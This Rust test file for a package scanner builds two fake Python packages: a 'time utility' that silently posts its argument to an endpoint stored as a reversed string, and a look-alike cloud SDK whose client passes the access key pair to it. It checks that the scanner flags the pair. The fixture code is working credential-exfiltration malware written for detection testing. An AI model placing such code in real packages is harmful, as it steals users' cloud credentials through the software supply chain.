//! Use-time theft across packages, end to end: a "time utility" whose
//! function posts its argument to an endpoint stored reversed, errors
//! silenced, and a look-alike cloud SDK whose client constructor hands it
//! the access key pair. Scanned together — as archives on one command
//! line, from a requirements file against the local index, or installed in
//! an environment — the SDK is malicious and the helper at least
//! suspicious. The packages are built from strings in temporary folders;
//! nothing is installed or run.

mod support;

use std::fs;
use std::path::Path;

use base64::Engine as _;
use serde_json::Value;
use sha2::{Digest as _, Sha256};
use support::{Dist, IndexServer, artifact, assay, json, write};

/// The helper: a clock-skew utility that reports what it is given.
const CLOCK: &str = r#"import requests

_SKEW = "wks/ipa/moc.kcolc-wks-cimota//:sptth"


def measure_skew(sample):
    try:
        requests.post(_SKEW[::-1], json=sample, timeout=2)
    except:
        pass
    return 0.0
"#;

/// The look-alike SDK: its client constructor hands the key pair over.
const CLIENT: &str = r#"import skewclock


class BucketClient:
    def __init__(self, access_key_id, secret_access_key, region="us-1"):
        self.region = region
        self.skew = skewclock.measure_skew({"id": access_key_id, "key": secret_access_key})

    def list(self, bucket):
        return [bucket]
"#;

fn helper() -> Dist<'static> {
    Dist {
        name: "skewclock",
        version: "1.2",
        requires: &[],
        files: &[("skewclock/__init__.py", CLOCK)],
    }
}

fn sdk() -> Dist<'static> {
    Dist {
        name: "bucketkit",
        version: "0.4",
        requires: &["skewclock>=1"],
        files: &[
            (
                "bucketkit/__init__.py",
                "from .client import BucketClient\n",
            ),
            ("bucketkit/client.py", CLIENT),
        ],
    }
}

fn save(dir: &Path, (name, bytes): (String, Vec<u8>)) -> String {
    fs::write(dir.join(&name), bytes).unwrap();
    name
}

fn rules(artifact: &Value) -> Vec<&str> {
    artifact["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] != "low")
        .map(|f| f["rule"].as_str().unwrap())
        .collect()
}

/// The caller's AY304 finding names both packages' files with lines.
fn assert_chain_through_both(sdk: &Value) {
    let message = sdk["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "AY304" && f["severity"] == "critical")
        .unwrap_or_else(|| panic!("no critical AY304: {sdk:#}"))["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(message.contains("client.py:7"), "{message}");
    assert!(message.contains("skewclock/__init__.py:8"), "{message}");
    assert!(message.contains("`secret_access_key`") || message.contains("`access_key_id`"));
}

#[test]
fn the_pair_scanned_together_as_archives() {
    let dir = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    let helper = save(dir.path(), helper().sdist());
    let sdk = save(dir.path(), sdk().wheel());
    let output = assay(cache.path())
        .current_dir(dir.path())
        .args([&sdk, &helper])
        .output()
        .unwrap();
    let doc = json(&output);
    assert_eq!(output.status.code(), Some(1));
    let caller = artifact(&doc, "bucketkit");
    assert_eq!(caller["verdict"]["label"], "malicious", "{caller:#}");
    assert_chain_through_both(caller);
    let relay = artifact(&doc, "skewclock");
    assert_ne!(relay["verdict"]["label"], "clean", "{relay:#}");
    assert!(rules(relay).contains(&"AY305"));
}

#[test]
fn each_half_alone_is_weaker() {
    let dir = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    let sdk = save(dir.path(), sdk().wheel());
    let output = assay(cache.path())
        .current_dir(dir.path())
        .arg(&sdk)
        .output()
        .unwrap();
    let doc = json(&output);
    let caller = artifact(&doc, "bucketkit");
    // A hand-off to code assay cannot see is reported, at low.
    assert_eq!(caller["verdict"]["label"], "clean", "{caller:#}");
    assert!(
        caller["findings"].to_string().contains("AY304"),
        "{caller:#}"
    );
    let helper = save(dir.path(), helper().sdist());
    let output = assay(cache.path())
        .current_dir(dir.path())
        .arg(&helper)
        .output()
        .unwrap();
    let relay = artifact(&json(&output), "skewclock").clone();
    assert_eq!(relay["verdict"]["label"], "suspicious", "{relay:#}");
}

#[test]
fn the_pair_from_a_requirements_file_against_the_index() {
    let index = IndexServer::start(&[helper().sdist(), sdk().wheel()]);
    let dir = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    let requirements = write(dir.path(), "requirements.txt", "bucketkit==0.4\n");
    let output = assay(cache.path())
        .args(["--index-url", &index.index_url(), "-r"])
        .arg(&requirements)
        .output()
        .unwrap();
    let doc = json(&output);
    assert_eq!(output.status.code(), Some(1), "{doc:#}");
    let caller = artifact(&doc, "bucketkit");
    assert_eq!(caller["verdict"]["label"], "malicious", "{caller:#}");
    assert_chain_through_both(caller);
    assert_ne!(artifact(&doc, "skewclock")["verdict"]["label"], "clean");
}

#[test]
fn the_pair_installed_in_an_environment() {
    let dir = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    let root = dir.path().join("venv");
    let site = root.join("lib/python3.12/site-packages");
    fs::create_dir_all(&site).unwrap();
    fs::write(
        root.join("pyvenv.cfg"),
        "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.12.4\n",
    )
    .unwrap();
    for dist in [helper(), sdk()] {
        install(&site, &dist);
    }
    let output = assay(cache.path())
        .arg("--env")
        .arg(&root)
        .output()
        .unwrap();
    let doc = json(&output);
    let caller = doc["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "bucketkit")
        .unwrap_or_else(|| panic!("{doc:#}"));
    assert_eq!(caller["verdict"]["label"], "malicious", "{caller:#}");
    let message = caller["findings"].to_string();
    assert!(message.contains("skewclock/__init__.py:8"), "{message}");
}

/// Installs a distribution as an installer would: its files, and a
/// dist-info folder whose RECORD lists each file's hash.
fn install(site: &Path, dist: &Dist<'_>) {
    let dist_info = format!("{}-{}.dist-info", dist.name, dist.version);
    let metadata = format!(
        "Metadata-Version: 2.1\nName: {}\nVersion: {}\n",
        dist.name, dist.version
    );
    let mut all: Vec<(String, String)> = dist
        .files
        .iter()
        .map(|(p, d)| ((*p).to_owned(), (*d).to_owned()))
        .collect();
    all.push((format!("{dist_info}/METADATA"), metadata));
    let mut record = String::new();
    for (path, data) in &all {
        let target = site.join(path);
        fs::create_dir_all(target.parent().unwrap()).unwrap();
        fs::write(target, data).unwrap();
        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .encode(Sha256::digest(data.as_bytes()));
        record.push_str(&format!("{path},sha256={digest},{}\n", data.len()));
    }
    record.push_str(&format!("{dist_info}/RECORD,,\n"));
    fs::write(site.join(format!("{dist_info}/RECORD")), record).unwrap();
}
